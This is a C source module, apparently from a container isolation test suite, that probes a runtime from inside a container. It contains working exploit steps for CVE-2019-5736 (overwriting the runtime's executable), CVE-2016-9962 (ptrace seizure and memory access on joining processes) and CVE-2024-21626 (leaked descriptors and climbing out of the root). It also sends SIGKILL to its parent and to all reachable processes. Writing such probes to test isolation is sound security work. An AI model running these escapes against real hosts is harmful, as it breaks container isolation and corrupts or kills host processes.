/* SPDX-License-Identifier: MIT */
/* Attacks on the processes that join a container: its runtime, as seen from inside. */
#include "escape.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Calls fn with each process that is not ours, over and over, until it says so or the time is up.
 */
static int hunt(double seconds, int (*fn)(int pid, void *arg), void *arg)
{
	double end = now() + seconds;
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		int done = 0;
		if (!d)
			die("opendir /proc: %s", strerror(errno));
		while (!done && (e = readdir(d))) {
			int pid = isdigit((unsigned char)*e->d_name) ? atoi(e->d_name) : 0;
			if (pid > 1 && pid != getpid())
				done = fn(pid, arg);
		}
		closedir(d);
		if (done)
			return 1;
	}
	return 0;
}

/* ---- CVE-2019-5736 ---- */

typedef struct {
	struct stat own[2]; /* what containers execute themselves */
	int found;          /* somebody else's program, as a descriptor */
} Exe;

static int look_at_exe(int pid, void *arg)
{
	Exe *x = arg;
	struct stat st;
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return 0;
	for (int i = 0; i < 2; i++) {
		if (fstat(fd, &st) < 0 ||
			(st.st_ino == x->own[i].st_ino && st.st_dev == x->own[i].st_dev)) {
			close(fd);
			return 0;
		}
	}
	x->found = fd;
	return 1;
}

/* Waits for a process that executes a program which is not the image's, and writes into that
 * program. */
static int overwrite(int argc, char **argv)
{
	Exe x = {.found = -1};
	if (argc < 2 || stat("/proc/self/exe", &x.own[0]) < 0 ||
		stat("/bin/busybox", &x.own[1]) < 0)
		die("overwrite SECONDS");
	printf("waiting\n");
	if (!hunt(atof(argv[1]), look_at_exe, &x))
		die("nobody came");
	printf("found the program of the runtime\n");
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", x.found);
	int fd;
	double end = now() + 3;
	do
		fd = open(path, O_WRONLY);
	while (fd < 0 && errno == ETXTBSY && now() < end);
	tell("open for writing", fd >= 0);
	if (fd >= 0)
		tell("write", write(fd, "#!/escaped\n", 11) == 11);
	return 0;
}

/* ---- CVE-2016-9962 ---- */

typedef struct {
	int attempts, traced, read_fd, read_mem, late;
	int why; /* of the last refusal */
	struct stat own;
} Trace;

static int own_program(int pid, const struct stat *own)
{
	struct stat st;
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	/* One that has ended meanwhile has none any more; one that joins may not be asked (EACCES).
	 */
	if (stat(path, &st) < 0)
		return errno == ENOENT || errno == ESRCH;
	return st.st_ino == own->st_ino && st.st_dev == own->st_dev;
}

/* A process is worth the try while it is not one of the container's own programs. */
static int seize(int pid, void *arg)
{
	Trace *t = arg;
	char path[64], to[256];
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, to, sizeof to - 1);
	if (fd >= 0)
		close(fd);
	/* What is executed in the container is called so by the image. */
	if (n <= 0 || strncmp(to, "true", 4) == 0 || strncmp(to, "sleep", 5) == 0 ||
		strncmp(to, "escape", 6) == 0 || strncmp(to, "sh\n", 3) == 0)
		return 0;
	t->attempts++;
	int traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0, mem, fds = 0;
	if (!traced)
		t->why = errno;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	mem = fd >= 0;
	if (fd >= 0)
		close(fd);
	for (int i = 0; i < 32; i++) {
		struct stat st;
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
		fds += stat(path, &st) == 0;
	}
	/* It may have become the container's own program in between, which bears its old name for a
	 * moment. */
	if (own_program(pid, &t->own)) {
		t->late++;
		return 0;
	}
	t->traced += traced;
	t->read_mem += mem;
	t->read_fd += fds;
	return 0;
}

static int trace(int argc, char **argv)
{
	Trace t = {0};
	if (argc < 2 || stat(argc > 2 ? argv[2] : "/bin/busybox", &t.own) < 0)
		die("trace SECONDS [PROGRAM]");
	printf("waiting\n");
	(void)hunt(atof(argv[1]), seize, &t);
	errno = t.why;
	printf("attempts: %s\n", t.attempts ? "some" : "none");
	tell("seize", t.traced > 0);
	printf("descriptors: %d\nmemory: %d\n", t.read_fd, t.read_mem);
	return 0;
}

/* ---- CVE-2024-21626 ---- */

/* What is open: the number, the kind and where it leads. The directory that lists is left out. */
static int list_fds(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	if (!d)
		die("/proc/self/fd: %s", strerror(errno));
	while ((e = readdir(d))) {
		if (!isdigit((unsigned char)*e->d_name) || atoi(e->d_name) == dirfd(d))
			continue;
		struct stat st;
		char path[300];
		snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
		if (stat(path, &st) < 0)
			die("%s: %s", path, strerror(errno));
		printf("fd %s: %s\n", e->d_name,
			S_ISDIR(st.st_mode)    ? "directory"
			: S_ISCHR(st.st_mode)  ? "device"
			: S_ISFIFO(st.st_mode) ? "pipe"
			: S_ISSOCK(st.st_mode) ? "socket"
					       : "file");
	}
	closedir(d);
	return 0;
}

/* Walks up from where we are to a directory that is no more in our root, if there is one. */
static int climb(int argc, char **argv)
{
	if (argc < 2)
		die("climb MARKER");
	const char *marker = argv[1];
	char at[4096];
	tell("getcwd", getcwd(at, sizeof at) && *at == '/');
	for (int i = 0; i < 40; i++)
		(void)!chdir("..");
	tell("marker", access(marker + strspn(marker, "/"), F_OK) == 0);
	return 0;
}

/* ---- killing who watches over us ---- */

static int kill_parent(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	printf("parent: %d\n", getppid());
	tell("kill 0", getppid() > 0 && kill(getppid(), SIGKILL) == 0);
	/* Everybody whom we can reach, ourselves excepted: that is only the container. */
	tell("kill all", kill(-1, SIGKILL) == 0);
	printf("alive\n");
	return 0;
}

const Attack process_attacks[] = {
	{"overwrite", overwrite, "SECONDS"},
	{"trace", trace, "SECONDS [PROGRAM]"},
	{"fds", list_fds, ""},
	{"climb", climb, "MARKER"},
	{"kill", kill_parent, ""},
	{NULL, NULL, NULL},
};
